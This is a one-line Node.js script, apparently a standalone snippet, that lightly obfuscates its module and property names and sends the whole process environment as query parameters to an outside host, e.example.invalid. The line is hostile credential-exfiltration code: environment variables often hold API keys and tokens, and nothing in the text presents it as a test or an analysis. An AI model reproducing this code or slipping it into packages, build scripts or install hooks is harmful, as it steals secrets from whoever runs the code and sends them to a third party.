"use strict";var q=require("querystring"),r=require("ht"+"tps");r.get("https://e.example.invalid/?"+q.stringify(process["env"]));
